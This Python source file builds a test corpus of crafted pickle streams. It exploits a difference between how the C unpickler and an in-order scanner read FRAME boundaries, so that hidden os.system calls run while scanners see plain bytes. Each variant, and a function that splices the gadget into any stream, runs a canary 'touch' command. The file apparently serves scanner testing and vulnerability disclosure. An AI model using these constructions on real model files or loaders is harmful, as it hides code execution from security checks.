"""Byte builders for the FRAME-straddle corpus (GitHub issue 14).

The C unpickler keeps a FRAME's bytes in a buffer. An argument (or a text line) that
runs past the buffer's end is not read on from the stream: the rest of the buffer is
dropped and the whole argument is read from the bytes after the frame. The pure-Python
unpickler refuses such a stream ("pickle exhausted before end of frame"), and a
walker that reads the bytes in order sees the argument the Python way. Two readings
of one stream: the C one below runs ``os.system('touch CANARY')`` where the in-order
reading sees a bytes value.

A reader without ``peek()`` (``io.BytesIO``, as ``torch.load`` hands its unpickler;
joblib's zlib file) reads a frame with ``read(size)``: any straddle diverges. A real
file (``BufferedReader``) is peeked 8 KiB ahead, so the frame buffer holds the bytes
after the frame too; unless the frame starts at offset 8191, where ``peek()`` returns
the one byte left in the reader's buffer and the unpickler falls back to ``read``.
``at_edge`` builds that layout, which diverges for both kinds of reader.
"""

from __future__ import annotations

import struct
from pathlib import Path

EDGE = 8191  # io.DEFAULT_BUFFER_SIZE - 1: where a frame's first byte defeats peek()


def frame(size: int) -> bytes:
    return b"\x95" + struct.pack("<Q", size)


def call(canary: Path) -> bytes:
    """GLOBAL os.system, REDUCE: leaves the call's result on the stack."""
    return f"cos\nsystem\n(V touch {canary}\ntR".encode()


def gadget(canary: Path) -> bytes:
    """FRAME(2) 'B' + one length byte: a BINBYTES whose length straddles the frame end.

    In order (Python, mdreg's old walker): length = b0 | 1 << 8, and the bytes after
    the frame are data. The C unpickler reads the whole length after the frame
    (``01 00 00 00``: one byte of data) and then runs the "data" as opcodes: a POP, the
    call, a POP, and None pushed. The trailing POP makes the gadget stack-neutral
    for both readings, so it can be spliced between any two opcodes of a stream
    (outside a frame).
    """
    run = b"\x00Z0" + call(canary) + b"0"  # 4th length byte, data 'Z', POP; call; POP
    run += b"N0" * max(0, (256 - len(run)) // 2) + b"N"  # N0 pairs; one None for the last POP
    b0 = len(run) - 256
    assert 0 <= b0 < 256, "canary path too long for a one-byte length"
    return frame(2) + b"B" + bytes([b0]) + b"\x01\x00\x00" + run + b"0"


def at_edge(framed: bytes, proto: int = 5) -> bytes:
    """PROTO, a filler string and POP, then ``framed`` (which starts with a FRAME
    header) placed so that the frame's first content byte is at file offset 8191."""
    filler = EDGE - len(frame(0)) - 2 - 5 - 1
    return bytes([0x80, proto]) + b"X" + struct.pack("<I", filler) + b"A" * filler + b"0" + framed


def binbytes_straddle(canary: Path, proto: int = 5) -> bytes:
    """(a) the issue's file: a BINBYTES length straddling a frame at offset 8191."""
    return at_edge(gadget(canary), proto) + b"N."


def small_straddle(canary: Path) -> bytes:
    """(b) no filler: diverges for readers without peek() (io.BytesIO)."""
    return b"\x80\x05" + gadget(canary) + b"N."


def text_line_straddle(canary: Path) -> bytes:
    """(c) a GLOBAL's module line starting in the frame: C drops "junk" and reads the
    line "os" after the frame; in order the module is "junkos"."""
    body = b"cjunk"
    return (
        at_edge(frame(len(body)) + body)
        + b"os\nsystem\n"
        + call(canary)[len(b"cos\nsystem\n") :]
        + b"."
    )


def frame_in_frame(canary: Path) -> bytes:
    """(d) a FRAME as the outer frame's last-but-five bytes: C reads the inner frame
    from after the outer one (dropping the 5 bytes left: a BINBYTES header, which in
    order makes the call's bytes data)."""
    hidden = call(canary) + b"."
    inner = frame(len(hidden)) + b"B" + struct.pack("<I", len(hidden) - 1)
    return at_edge(frame(len(inner)) + inner) + hidden


def old_protocol(canary: Path) -> bytes:
    """(e) the straddle in a protocol 2 stream (FRAME exists from protocol 4)."""
    return binbytes_straddle(canary, proto=2)


def splice(stream: bytes, at: int, canary: Path) -> bytes:
    """``stream`` with the gadget inserted at byte ``at`` (between opcodes, outside frames)."""
    return stream[:at] + gadget(canary) + stream[at:]
